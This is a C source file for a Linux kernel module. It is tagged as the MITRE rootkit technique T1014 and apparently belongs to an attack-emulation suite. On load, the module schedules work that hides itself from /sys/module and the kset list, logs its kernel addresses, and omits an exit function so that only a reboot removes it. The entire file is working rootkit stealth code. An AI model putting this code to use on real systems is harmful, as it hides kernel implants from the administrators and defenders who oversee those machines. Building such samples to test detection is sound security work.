// SPDX-License-Identifier: GPL-2.0-only
/* Leaves /sys/module while it stays in the list of modules (T1014). There is no way back but a reboot. */
#include "modhide.h"

#include <linux/workqueue.h>

static bool folder = true;
module_param(folder, bool, 0444);
MODULE_PARM_DESC(folder, "remove the folder too, not only the entry in the kset's list");

static void hide(struct work_struct *work);
static DECLARE_DELAYED_WORK(hide_work, hide);

static void hide(struct work_struct *work)
{
	unsigned long base, size;

	modhide_kobject(folder);
	modhide_where(&base, &size);
	attack_log("hidden folder=%d module=0x%lx base=0x%lx size=0x%lx", folder,
		   (unsigned long)THIS_MODULE, base, size);
}

/* With no exit function it stays: the kernel's unloading does not expect what was done here. */
static int __init attack_init(void)
{
	schedule_delayed_work(&hide_work, HZ / 10);
	return 0;
}

module_init(attack_init);
